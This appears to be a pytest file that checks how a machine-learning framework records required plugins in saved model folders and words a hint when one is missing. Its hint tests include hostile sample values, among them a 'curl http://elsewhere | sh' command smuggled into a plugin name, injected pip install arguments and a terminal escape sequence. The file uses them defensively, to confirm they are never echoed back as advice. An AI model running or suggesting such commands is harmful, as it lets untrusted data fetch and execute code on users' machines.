"""Model folders record which plugins they need, and a message names those that are missing."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import torch
from torch import nn

from tina_framework.classifier.classifier import GeneratedClassifier
from tina_framework.errors import CheckpointError
from tina_framework.interfaces.architecture import TargetArchitecture
from tina_framework.plugin.discovery import registries
from tina_framework.plugin.required import plugin_hint, plugins_of


def build(num_classes: int) -> nn.Module:
    return nn.Sequential(nn.Flatten(), nn.Linear(192, num_classes))


FLAT = TargetArchitecture("flat-of-a-plugin", build, (3, 8, 8))


@pytest.fixture
def flat(monkeypatch: pytest.MonkeyPatch) -> str:
    """The architecture, as a plugin named tina-flat would have registered it; gone again afterwards."""
    registry = registries().architectures
    monkeypatch.setattr(registry, "_entries", dict(registry._entries))
    registry.add(FLAT.name, FLAT, distribution="tina-flat")
    return FLAT.name


def test_what_is_recorded(flat: str) -> None:
    assert plugins_of(architectures=flat, tokenizers="chunk") == {"plugins": ["tina-flat"]}
    assert plugins_of(architectures=f"{flat}:64") == {"plugins": ["tina-flat"]}
    assert plugins_of(architectures=f"{flat}@1.5") == {"plugins": ["tina-flat"]}
    assert plugins_of(architectures=f"{flat}@1.5:64") == {"plugins": ["tina-flat"]}
    assert plugins_of(architectures="cnn-2layer@2", tokenizers="chunk") == {}
    assert plugins_of(architectures="cnn-2layer", tokenizers="chunk") == {}
    assert plugins_of(architectures=["cnn-2layer", flat, f"{flat}@2"]) == {"plugins": ["tina-flat"]}


def test_a_classifier_says_which_plugin_it_needs(flat: str, tmp_path: Path) -> None:
    torch.manual_seed(0)
    made = GeneratedClassifier.from_state(FLAT, ["a", "b"], build(2).state_dict())
    made.save_pretrained(tmp_path / "c")
    GeneratedClassifier.from_pretrained(tmp_path / "c")
    assert json.loads((tmp_path / "c" / "config.json").read_text())["plugins"] == ["tina-flat"]
    del registries().architectures._entries[flat]
    sentence = (
        r"Unknown architecture .* It says that it was made with the plugin tina-flat; install it if you trust it\.$"
    )
    with pytest.raises(CheckpointError, match=sentence):
        GeneratedClassifier.from_pretrained(tmp_path / "c")


@pytest.mark.parametrize(
    ("recorded", "hint"),
    [
        (["tina-gone"], " It says that it was made with the plugin tina-gone; install it if you trust it."),
        (["my_network.py"], " It says that it was made with the file my_network.py; give it with --plugin."),
        (["tina-framework"], ""),
        ("tina-gone", ""),
        ([3], ""),
        (3, ""),
        ({"tina-gone": 1}, ""),
        ([["tina-gone"], {"a": 1}, None], ""),
        (["tina-gone --index-url http://elsewhere"], ""),
        (["tina-gone; curl http://elsewhere | sh"], ""),
        (["tina-gone'. Run: pip install evil"], ""),
        (["tina-gone\n"], ""),
        (["\x1b[2Jtina-gone"], ""),
        (["git+https://elsewhere/x"], ""),
        (["/tmp/evil.py"], ""),
        (["a" * 1000], ""),
        (
            ["tina-gone", "tina-gone"],
            " It says that it was made with the plugin tina-gone; install it if you trust it.",
        ),
    ],
)
def test_the_hint(recorded: object, hint: str) -> None:
    assert plugin_hint({"plugins": recorded}) == hint
    assert plugin_hint({}) == ""


def test_a_long_list_is_cut() -> None:
    hint = plugin_hint({"plugins": [f"tina-{number}" for number in range(1000)]})
    assert hint.endswith(" It names 995 more.")
    assert len(hint) < 500
